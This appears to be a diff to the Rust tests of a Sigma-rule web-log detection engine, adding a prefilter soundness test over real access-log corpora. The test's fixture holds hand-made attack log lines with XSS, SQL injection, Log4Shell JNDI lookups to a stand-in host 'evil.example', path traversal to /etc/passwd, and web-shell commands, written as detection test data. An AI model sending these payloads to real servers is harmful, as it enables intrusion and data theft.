@@ -521,6 +521,12 @@ fn sigmahq_webserver_rules_load() {
         // Any junk line evaluates without panicking.
         let _ = r.eval(&web("\u{0}\u{ff}garbage \"GET", &[("cs-method", "GET")]));
     }
+    let without: Vec<&str> = rules
+        .iter()
+        .filter(|r| r.literals().is_none())
+        .map(|r| r.id.as_str())
+        .collect();
+    eprintln!("{} of 86 rules have no prefilter literals: {without:?}", without.len());
     // Sorted, deterministic order.
     let sources: Vec<PathBuf> = rules.iter().map(|r| PathBuf::from(&r.source)).collect();
     assert!(
@@ -1074,4 +1080,96 @@ fn literals_cover_conditions() {
         &[("cs-uri-query", "q=union select")],
     );
     assert!(ev(&sp, &rec).is_some());
+}
+
+/// A minimal combined-log splitter for the corpus test (the real format
+/// module is another helper's).
+fn combined(line: &str) -> Record<'_> {
+    let mut rec = Record::bare(line.as_bytes(), None, Family::Web);
+    let quoted: Vec<&str> = line.split('"').collect();
+    let (Some(head), Some(request), Some(tail)) = (quoted.first(), quoted.get(1), quoted.get(2)) else {
+        return rec;
+    };
+    let mut push = |k: &str, v: &str| rec.fields.push((k.to_string(), v.to_string()));
+    if let Some(ip) = head.split(' ').next() {
+        push("c-ip", ip);
+    }
+    let mut parts = request.split(' ');
+    let method = parts.next().unwrap_or("");
+    let uri = parts.next().unwrap_or("");
+    let (stem, query) = uri.split_once('?').unwrap_or((uri, ""));
+    push("cs-method", method);
+    push("cs-uri", uri);
+    push("cs-uri-stem", stem);
+    // SigmaHQ webserver rules often test paths in cs-uri-query: give the
+    // whole URI there so more rules are exercised.
+    push("cs-uri-query", if query.is_empty() { uri } else { query });
+    let mut nums = tail.split_whitespace();
+    push("sc-status", nums.next().unwrap_or(""));
+    push("sc-bytes", nums.next().unwrap_or(""));
+    push("cs-referer", quoted.get(3).copied().unwrap_or(""));
+    push("cs-user-agent", quoted.get(5).copied().unwrap_or(""));
+    rec
+}
+
+#[test]
+fn prefilter_sound_on_real_corpora() {
+    let Some(dir) = shared_dir() else {
+        eprintln!("NOTICE: ../shared not found; skipping corpus soundness test");
+        return;
+    };
+    let rules = load_path(&dir).unwrap_or_else(|e| panic!("{e}"));
+    let corpora = dir.join("../corpora");
+    let files = [
+        ("nielsbasjes_logparser_hackers-access.log", 1),
+        ("elastic_examples_apache_logs.log", 20),
+    ];
+    let mut matched = 0;
+    let mut lines = 0;
+    // Hand-made attack lines so the check also sees matches.
+    let attacks = [
+        r#"6.6.6.6 - - [27/Sep/2017:10:00:00 +0000] "GET /search?q=<script>alert(1)</script> HTTP/1.1" 200 5 "-" "Mozilla/5.0""#,
+        r#"6.6.6.6 - - [27/Sep/2017:10:00:00 +0000] "GET /item?id=1%20UNION%20SELECT%20cc_number HTTP/1.1" 200 5 "-" "sqlmap/1.5""#,
+        r#"6.6.6.6 - - [27/Sep/2017:10:00:00 +0000] "GET /?x=${jndi:ldap://evil.example/a} HTTP/1.1" 200 5 "-" "${jndi:ldap://evil.example/a}""#,
+        r#"6.6.6.6 - - [27/Sep/2017:10:00:00 +0000] "GET /../../../../etc/passwd HTTP/1.1" 200 5 "-" "curl/7.1""#,
+        r#"6.6.6.6 - - [27/Sep/2017:10:00:00 +0000] "GET /.git/config HTTP/1.1" 200 5 "-" "Mozilla/5.0""#,
+        r#"6.6.6.6 - - [27/Sep/2017:10:00:00 +0000] "GET /cgi-bin/.%2e/.%2e/.%2e/etc/passwd HTTP/1.1" 200 5 "-" "Mozilla/5.0""#,
+        r#"6.6.6.6 - - [27/Sep/2017:10:00:00 +0000] "GET /index.php?q={{7*7}} HTTP/1.1" 200 5 "-" "Mozilla/5.0""#,
+        r#"6.6.6.6 - - [27/Sep/2017:10:00:00 +0000] "GET /shell.php?cmd=whoami HTTP/1.1" 200 5 "-" "Mozilla/5.0""#,
+    ];
+    for line in attacks {
+        lines += 1;
+        let rec = combined(line);
+        for r in &rules {
+            if r.eval(&rec).is_some() {
+                matched += 1;
+                assert_sound(r, &rec);
+            }
+        }
+    }
+    assert!(matched >= attacks.len(), "crafted attacks matched only {matched} times");
+    for (file, step) in files {
+        let Ok(text) = std::fs::read_to_string(corpora.join(file)) else {
+            eprintln!("NOTICE: {file} not readable; skipping it");
+            continue;
+        };
+        for line in text.lines().step_by(step) {
+            lines += 1;
+            let rec = combined(line);
+            for r in &rules {
+                if r.eval(&rec).is_some() {
+                    matched += 1;
+                    assert_sound(r, &rec);
+                }
+            }
+        }
+    }
+    eprintln!("corpus soundness: {lines} lines, {matched} rule matches, all covered by literals()");
+}
+
+#[test]
+fn rules_are_shareable_across_threads() {
+    fn send_sync<T: Send + Sync>() {}
+    send_sync::<Rule>();
+    send_sync::<RuleError>();
 }
